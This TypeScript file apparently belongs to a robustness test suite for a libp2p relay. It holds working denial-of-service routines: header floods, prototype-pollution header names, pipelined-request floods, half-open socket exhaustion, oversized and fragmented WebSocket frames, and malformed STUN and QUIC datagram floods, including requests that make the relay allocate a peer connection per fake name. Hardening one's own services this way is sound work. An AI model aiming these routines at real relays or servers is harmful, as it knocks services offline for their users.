// Attacks that need no libp2p: raw TCP against HTTP and WebSocket, raw datagrams against everything on UDP.

import { randomBytes } from 'node:crypto'
import { createSocket } from 'node:dgram'
import { connect, type Socket } from 'node:net'
import type { Target } from './target.ts'
import { join, repeat } from './wire.ts'

const END_MS = 3_000
const pause = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms))

/** Unlike `once` of Node, does not reject when the relay resets the socket. */
function event(socket: Socket, name: string): Promise<void> {
  return new Promise((resolve) => socket.once(name, () => resolve()))
}

async function open({ host, port }: Target): Promise<Socket> {
  const socket = connect(port, host).on('error', () => undefined)
  await Promise.race([event(socket, 'connect'), event(socket, 'close')])
  return socket
}

/** Sends `bytes` on a socket of its own. @returns what came back and whether the relay ended it */
async function exchange(target: Target, bytes: Uint8Array | string, ms = END_MS): Promise<string> {
  const socket = await open(target)
  let answer = ''
  socket.on('data', (data: Buffer) => { answer += data.toString('latin1', 0, 64) })
  socket.write(bytes)
  await Promise.race([event(socket, 'close'), event(socket, 'end'), pause(ms)])
  const ended = socket.closed || socket.readableEnded
  socket.destroy()
  return `${/^HTTP\/1\.1 (\d+)/.exec(answer)?.[1] ?? 'no answer'}, ${ended ? 'ended' : 'open'}`
}

const UPGRADE = 'GET / HTTP/1.1\r\nhost: relay\r\nupgrade: websocket\r\nconnection: Upgrade\r\nsec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n'

async function openWebSocket(target: Target): Promise<Socket> {
  const socket = await open(target)
  socket.write(`${UPGRADE}\r\n`)
  await Promise.race([event(socket, 'data'), event(socket, 'close')])
  socket.resume()
  return socket
}

/** A masked frame whose mask is zero. @param claims its length, which its content need not have */
function webSocketFrame(opcode: number, fin: boolean, content: Uint8Array, claims = content.length): Uint8Array {
  const head = Buffer.alloc(10)
  head[0] = (fin ? 0x80 : 0) | opcode
  head[1] = 0x80 | 127
  head.writeBigUInt64BE(BigInt(claims), 2)
  return claims < 126 ? join(Uint8Array.of(head[0], 0x80 | claims), new Uint8Array(4), content) : join(head, new Uint8Array(4), content)
}

/** Writes on many WebSockets at a time. @returns how many the relay ended within a while */
async function onWebSockets(target: Target, count: number, bytes: Uint8Array): Promise<string> {
  const sockets = await Promise.all(Array.from({ length: count }, () => openWebSocket(target)))
  for (const socket of sockets) socket.write(bytes)
  const isEnded = (socket: Socket): boolean => socket.closed || socket.readableEnded
  for (const end = Date.now() + END_MS; Date.now() < end && !sockets.every(isEnded);) await pause(20)
  const ended = sockets.filter(isEnded).length
  for (const socket of sockets) socket.destroy()
  return `${ended} of ${count} ended`
}

const BINARY = 2
const first = webSocketFrame(BINARY, false, Uint8Array.of(1))
const next = webSocketFrame(0, false, Uint8Array.of(1))

export const socketAttacks: Readonly<Record<string, (target: Target) => Promise<string>>> = {
  'too-many-headers': async (target) => {
    const many = Array.from({ length: 2_500 }, (_, at) => `x${at}: ${'y'.repeat(20)}\r\n`).join('')
    return [await exchange(target, `GET / HTTP/1.1\r\nhost: x\r\n${many}\r\n`), await exchange(target, `${UPGRADE}${many}\r\n`)].join('; ')
  },
  'header-names-of-objects': async (target) => {
    const names = ['constructor', '__proto__', 'toString', 'hasOwnProperty'].map((name) => `${name}: 1\r\n`).join('')
    const extensions = `${UPGRADE}sec-websocket-extensions: constructor; __proto__=1, permessage-deflate; constructor=1\r\nsec-websocket-protocol: __proto__\r\n\r\n`
    return [await exchange(target, `GET /healthz HTTP/1.1\r\nhost: x\r\nconnection: close\r\n${names}\r\n`), await exchange(target, extensions, 500)].join('; ')
  },
  'pipelined-requests': async (target) => exchange(target, 'GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n'.repeat(1_000), 1_000),
  'half-open-sockets': async (target) => {
    const sockets = await Promise.all(Array.from({ length: 500 }, () => open(target)))
    for (const [at, socket] of sockets.entries()) socket.write(['', 'GET / HT', `${UPGRADE}\r\n`, `${UPGRADE}\r\n\x82\xfe\xff`][at % 4]!)
    await pause(1_000)
    for (const socket of sockets) socket.destroy()
    return `${sockets.length} held`
  },
  'websocket-claims-terabytes': (target) => onWebSockets(target, 20, webSocketFrame(BINARY, true, new Uint8Array(100), 2 ** 40)),
  'websocket-frame-of-2-mib': (target) => onWebSockets(target, 20, webSocketFrame(BINARY, true, new Uint8Array(2_097_152))),
  'websocket-tiny-fragments': (target) => onWebSockets(target, 1, join(first, repeat(next, 200_000))),
  // Few enough for the library's own limit, on many sockets at a time.
  'websocket-fragments-held': (target) => onWebSockets(target, 60, join(first, repeat(next, 16_000))),
  'websocket-broken-frames': (target) => onWebSockets(target, 20, join(Uint8Array.of(0xff, 0xff), randomBytes(4_096))),
  'malformed-stun': async (target) => {
    const lies = Array.from({ length: 3_000 }, (_, at) => stun(at % 5 === 0 ? 0xffff : at % 64, at % 3 === 0 ? 0xffff : undefined, at))
    return datagrams(target, ['stun', 'webrtc-direct'], lies)
  },
  'stun-with-new-names': async (target) => {
    const knocks = Array.from({ length: 1_500 }, (_, at) => bindingRequest(`libp2p+webrtc+v1/${'k'.repeat(16)}${at}`))
    return datagrams(target, ['webrtc-direct'], knocks)
  },
  'malformed-quic': async (target) => {
    const packets = Array.from({ length: 1_000 }, (_, at) => quicInitial(at))
    return datagrams(target, ['webtransport', 'webrtc-direct', 'stun'], packets)
  },
}

async function datagrams(target: Target, names: readonly string[], packets: readonly Uint8Array[]): Promise<string> {
  const sent: string[] = []
  for (const name of names) {
    const port = target.udp[name]
    if (port === undefined) continue
    const socket = createSocket('udp4')
    for (const [at, packet] of packets.entries()) {
      socket.send(packet, port, target.host, () => undefined)
      if (at % 100 === 99) await pause(5)
    }
    await pause(200)
    socket.close()
    sent.push(`${packets.length} to ${name}`)
  }
  return sent.join(', ')
}

/** @param claims length in the header */
function stun(type: number, claims: number | undefined, at: number): Uint8Array {
  const body = randomBytes(at % 48)
  const head = Buffer.alloc(20)
  head.writeUInt16BE(type, 0)
  head.writeUInt16BE(claims ?? body.length, 2)
  head.writeUInt32BE(at % 7 === 0 ? 0 : 0x2112a442, 4)
  return join(head.subarray(0, at % 11 === 0 ? at % 20 : 20), body)
}

/** What a browser's first packet to webrtc-direct looks like: the relay prepares a whole peer connection for each name. */
function bindingRequest(name: string): Uint8Array {
  const user = Buffer.from(`${name}:${name}`)
  const attribute = Buffer.alloc(4 + Math.ceil(user.length / 4) * 4)
  attribute.writeUInt16BE(0x0006, 0)
  attribute.writeUInt16BE(user.length, 2)
  user.copy(attribute, 4)
  // The proof of a password, which only who made the name could check.
  const integrity = join(Uint8Array.of(0x00, 0x08, 0x00, 20), randomBytes(20))
  const head = Buffer.alloc(20)
  head.writeUInt16BE(0x0001, 0)
  head.writeUInt16BE(attribute.length + integrity.length, 2)
  head.writeUInt32BE(0x2112a442, 4)
  randomBytes(12).copy(head, 8)
  return join(head, attribute, integrity)
}

/** Long headers with lying lengths and versions that nobody speaks. */
function quicInitial(at: number): Uint8Array {
  const packet = randomBytes(1_200)
  packet[0] = 0xc0 | (at % 64)
  packet.writeUInt32BE(at % 3 === 0 ? 1 : at, 1)
  packet[5] = at % 256
  return packet.subarray(0, at % 4 === 0 ? at % 1_200 : 1_200)
}
